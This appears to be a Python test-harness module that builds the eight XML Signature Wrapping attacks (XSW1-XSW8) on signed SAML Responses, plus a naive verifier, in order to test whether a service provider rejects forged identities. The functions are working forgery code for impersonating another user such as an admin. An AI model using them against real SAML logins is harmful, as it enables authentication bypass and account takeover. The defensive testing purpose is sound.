"""Hostile SAML constructions for the attack suite (test_attacks.py).

Every function takes the lxml root of a Response that the test IdP built and
signed (entra_idp.build_response) and rearranges it the way an attacker
would. None of them needs a key: an attacker holds only a genuine, signed
Response for their own account (or an old one of someone else's) and
rewrites it.

The eight XML Signature Wrapping variants are those of "On Breaking SAML: Be
Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012) as SAML
Raider implements them (CompassSecurity/SAMLRaider, helpers/XSWHelpers.java):

    XSW1, XSW2   wrap the Response signature: the signed Response, cloned,
                 is hidden inside / next to the Signature of an evil Response
    XSW3, XSW4   an evil assertion before the signed one / around it
    XSW5 - XSW8  the assertion's Signature moves to an evil assertion; the
                 signed original is put where a reference by ID still finds
                 it (end of the Response, inside the Signature, in an
                 Extensions element, in a ds:Object)

In each, the part the attacker writes (the "evil" part) says EVIL, and the
signed original stays intact somewhere with its ID: a verifier that
resolves the Reference by ID and a reader that takes "the first Assertion"
look at two different elements.
"""
import copy

import xmlsec
from lxml import etree

from harness import entra_idp

SAMLP, SAML, DS = entra_idp.SAMLP, entra_idp.SAML, entra_idp.DS
P, S, D = "{%s}" % SAMLP, "{%s}" % SAML, "{%s}" % DS

EVIL = "admin@contoso.example"
EVIL_RESPONSE_ID = "_evil_response_ID"        # the IDs SAML Raider uses
EVIL_ASSERTION_ID = "_evil_assertion_ID"

# Which signed form each variant attacks. XSW1/2 need a Response signature
# to wrap; XSW5/6/8 move the Assertion's own Signature. XSW3/4/7 only add an
# evil assertion, which a Response signature must also catch (it covers the
# whole Response, so the evil assertion breaks its digest).
APPLIES = {
    "XSW1": ("response", "both"),
    "XSW2": ("response", "both"),
    "XSW3": ("assertion", "response", "both"),
    "XSW4": ("assertion", "response", "both"),
    "XSW5": ("assertion", "both"),
    "XSW6": ("assertion", "both"),
    "XSW7": ("assertion", "response", "both"),
    "XSW8": ("assertion", "both"),
}
NOT_APPLICABLE = {
    ("XSW1", "assertion"): "no Response signature to wrap (only the Assertion is signed)",
    ("XSW2", "assertion"): "no Response signature to wrap (only the Assertion is signed)",
    ("XSW5", "response"): "no Assertion signature to move (only the Response is signed)",
    ("XSW6", "response"): "no Assertion signature to move (only the Response is signed)",
    ("XSW8", "response"): "no Assertion signature to move (only the Response is signed)",
}


# Which wrapped responses still carry a signature that verifies by ID over
# the relocated original (naive_verify), i.e. would fool a relying party
# that checks "some signature verifies" and then reads the first Assertion
# (or the outer Response). XSW1, XSW6 and XSW8 hide the original *inside*
# the Signature: xmlsec's enveloped-signature transform drops the whole
# Signature subtree, so their digests cannot match here (they fooled
# implementations with a shallower enveloped transform).
POTENT = {("XSW2", "response"), ("XSW2", "both"),
          ("XSW3", "assertion"), ("XSW3", "both"), ("XSW4", "assertion"), ("XSW4", "both"),
          ("XSW5", "assertion"), ("XSW5", "both"), ("XSW7", "assertion"), ("XSW7", "both")}


# ----------------------------------------------------------------- small helpers

def parse(xml):
    return etree.fromstring(xml, etree.XMLParser(resolve_entities=False, no_network=True))


def tostring(root):
    return etree.tostring(root)


def assertion_of(root):
    """The first saml:Assertion child of the Response (the one SAML Raider
    picks with getElementsByTagName(...).item(0))."""
    return root.find(S + "Assertion")


def own_signature(elem):
    """The ds:Signature directly inside elem (its enveloped signature)."""
    return elem.find(D + "Signature")


def without_signature(elem):
    """A deep copy of elem minus its enveloped Signature: exactly the bytes
    the IdP's digest was computed over (the enveloped transform drops it)."""
    c = copy.deepcopy(elem)
    sig = own_signature(c)
    if sig is not None:
        c.remove(sig)
    return c


def make_evil(elem, upn=EVIL):
    """Rewrite the identity in an Assertion (or in the Assertion(s) of a
    Response): the NameID and the claims carrying the user's name."""
    assertions = [elem] if elem.tag == S + "Assertion" else elem.findall(S + "Assertion")
    for a in assertions:
        a.find("%sSubject/%sNameID" % (S, S)).text = upn
        for attr in a.iter(S + "Attribute"):
            if attr.get("Name") in (entra_idp.C_NAME, entra_idp.C_EMAIL):
                for v in attr.findall(S + "AttributeValue"):
                    v.text = upn
    return elem


def after_issuer_and_signature(resp):
    """Index of the first child after Issuer and the Response's Signature,
    where the schema allows samlp:Extensions."""
    i = 0
    for i, ch in enumerate(resp):
        if ch.tag not in (S + "Issuer", D + "Signature"):
            return i
    return i + 1


# ----------------------------------------------------------------- XSW1-8

def xsw1(root):
    """XSW1: the evil Response carries the signed original inside its Signature.

    The whole Response is cloned and the clone loses its Signature (it is now
    exactly what the IdP signed). The clone is appended as the last child of
    the Response's ds:Signature. The outer Response gets a new ID and the evil
    identity. The Signature's Reference still says URI="#<original ID>", which
    now resolves to the hidden clone; the SP reads the outer Response."""
    clone = without_signature(root)
    make_evil(root)
    own_signature(root).append(clone)
    root.set("ID", EVIL_RESPONSE_ID)
    return root


def xsw2(root):
    """XSW2: as XSW1, but the signed original clone is put right before the
    Signature, as a sibling inside the evil Response (a "detached" signature
    as far as a naive verifier can tell)."""
    clone = without_signature(root)
    make_evil(root)
    own_signature(root).addprevious(clone)
    root.set("ID", EVIL_RESPONSE_ID)
    return root


def xsw3(root):
    """XSW3: an evil assertion (copy of the original, Signature removed, new
    ID, evil identity) is inserted before the untouched signed assertion. The
    signed one verifies; a reader taking the first Assertion gets the evil."""
    original = assertion_of(root)
    evil = make_evil(without_signature(original))
    evil.set("ID", EVIL_ASSERTION_ID)
    original.addprevious(evil)
    return root


def xsw4(root):
    """XSW4: the evil assertion (as in XSW3) is appended to the Response and
    the signed original is moved inside it as its last child. The original is
    still intact (and verifies by ID); it is just not where the SP looks."""
    original = assertion_of(root)
    evil = make_evil(without_signature(original))
    evil.set("ID", EVIL_ASSERTION_ID)
    root.append(evil)
    evil.append(original)                     # moves it: lxml nodes have one parent
    return root


def xsw5(root):
    """XSW5: the original assertion element becomes the evil one in place: new
    ID, evil identity, and it keeps the Signature (whose Reference still names
    the original ID). A copy of the original without the Signature, i.e. the
    signed content, is appended at the end of the Response."""
    evil = assertion_of(root)
    original = without_signature(evil)
    make_evil(evil)
    evil.set("ID", EVIL_ASSERTION_ID)
    root.append(original)
    return root


def xsw6(root):
    """XSW6: like XSW5, but the signed original copy is appended inside the
    evil assertion's ds:Signature (after KeyInfo) instead of at the end of
    the Response."""
    evil = assertion_of(root)
    original = without_signature(evil)
    make_evil(evil)
    evil.set("ID", EVIL_ASSERTION_ID)
    own_signature(evil).append(original)
    return root


def xsw7(root):
    """XSW7: a samlp:Extensions element (schema-legal, it may hold any foreign
    content) is added to the Response, holding an evil copy of the assertion
    without Signature and with the same ID. The signed original stays in
    place. ID lookups and "first Assertion" lookups now disagree; a schema
    check does not help."""
    original = assertion_of(root)
    evil = make_evil(without_signature(original))
    ext = etree.Element(P + "Extensions")
    ext.append(evil)
    root.insert(after_issuer_and_signature(root), ext)
    return root


def xsw8(root):
    """XSW8: the original assertion element becomes the evil one in place
    (same ID, evil identity, keeps its Signature); the signed content, a copy
    without the Signature, is put into a ds:Object appended to that
    Signature, where XML-DSig allows arbitrary content."""
    evil = assertion_of(root)
    original = without_signature(evil)
    make_evil(evil)
    obj = etree.SubElement(own_signature(evil), D + "Object")
    obj.append(original)
    return root


XSW = {"XSW1": xsw1, "XSW2": xsw2, "XSW3": xsw3, "XSW4": xsw4,
       "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8}


# ----------------------------------------------------------------- the naive verifier

def naive_verify(xml, cert_path):
    """How a naive relying party verifies: for every ds:Signature in the
    document, resolve the Reference URI "#id" to an element with that ID
    attribute (any of them, if the attacker made the ID ambiguous) and
    verify with the IdP certificate. Returns the IDs whose signature
    verified.

    Used to show that a wrapped response is *potent*: the IdP's signature
    still verifies over the relocated original, so only the SP's own rules
    (where signatures and assertions may be, which element it reads) stop
    the attack."""
    ok = []
    for i in range(len(list(parse(xml).iter(D + "Signature")))):
        ref = list(parse(xml).iter(D + "Signature"))[i].find(
            "%sSignedInfo/%sReference" % (D, D))
        if ref is None or not (ref.get("URI") or "").startswith("#"):
            continue
        rid = ref.get("URI")[1:]
        for k in range(len(parse(xml).xpath("//*[@ID=$id]", id=rid))):
            doc = parse(xml)                      # a fresh tree per attempt
            sig = list(doc.iter(D + "Signature"))[i]
            ctx = xmlsec.SignatureContext()
            ctx.key = xmlsec.Key.from_file(cert_path, xmlsec.KeyFormat.CERT_PEM)
            try:
                ctx.register_id(doc.xpath("//*[@ID=$id]", id=rid)[k], "ID")
                ctx.verify(sig)
            except xmlsec.Error:
                continue
            ok.append(rid)
            break
    return ok


# ----------------------------------------------------------------- custom signatures

def sign_with_reference(elem, key_path, cert_path, uri):
    """An enveloped RSA-SHA256 signature placed in elem (after its Issuer),
    with a Reference URI of our choosing: "" signs the whole document
    (allowed by XML-DSig, forbidden by SAML core 5.4.2)."""
    for old in elem.findall(D + "Signature"):
        elem.remove(old)
    sig = xmlsec.template.create(elem, xmlsec.Transform.EXCL_C14N,
                                 xmlsec.Transform.RSA_SHA256)
    ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri=uri)
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    ki = xmlsec.template.ensure_key_info(sig)
    xmlsec.template.add_x509_data(ki)
    entra_idp._strip_ws(sig)
    elem.find(S + "Issuer").addnext(sig)
    ctx = xmlsec.SignatureContext()
    ctx.key = xmlsec.Key.from_file(key_path, xmlsec.KeyFormat.PEM)
    ctx.key.load_cert_from_file(cert_path, xmlsec.KeyFormat.PEM)
    ctx.register_id(elem, "ID")
    ctx.sign(sig)
    return sig
